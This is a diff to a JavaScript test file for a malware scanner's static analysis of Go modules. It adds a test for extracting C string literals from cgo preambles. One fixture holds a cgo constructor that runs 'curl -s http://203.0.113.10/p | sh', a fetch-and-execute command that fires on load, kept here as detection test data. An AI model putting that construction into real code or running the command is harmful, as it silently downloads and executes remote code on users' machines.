@@ -7,6 +7,7 @@ import { fileURLToPath } from 'node:url';
 import { loadRules } from '../src/static/rules/load.js';
 import { scanModule, fileRole, childExecArgv } from '../src/static/scan.js';
 import { spawnSync } from 'node:child_process';
+import { cgoPreambleLiterals } from '../src/static/scan-worker.js';
 
 const root = fileURLToPath(new URL('../../', import.meta.url));
 const rules = loadRules([join(root, 'test', 'fixtures', 'rules', 'good')]);
@@ -124,6 +125,14 @@ func init() {
   } finally {
     rmSync(dir, { recursive: true, force: true });
   }
+});
+
+test('the C string literals of cgo preambles feed IOC extraction, other comments do not', () => {
+  const block = 'package p\n\n// Doc says "http://203.0.113.1/doc".\n\n/*\n#include <stdlib.h>\n__attribute__((constructor)) static void b(void) { system("curl -s http://203.0.113.10/p | sh"); }\n*/\nimport "C"\n';
+  assert.deepEqual(cgoPreambleLiterals(block), ['curl -s http://203.0.113.10/p | sh']);
+  const lines = 'package p\n\n// #include <stdio.h>\n// static void f(void) { puts("a\\tb"); }\nimport "C"\n';
+  assert.deepEqual(cgoPreambleLiterals(lines), ['a\tb']);
+  assert.deepEqual(cgoPreambleLiterals('package p\n\n// "x"\nimport "fmt"\n'), []);
 });
 
 test('fileRole tells test, testdata, vendor and never-built files apart', () => {
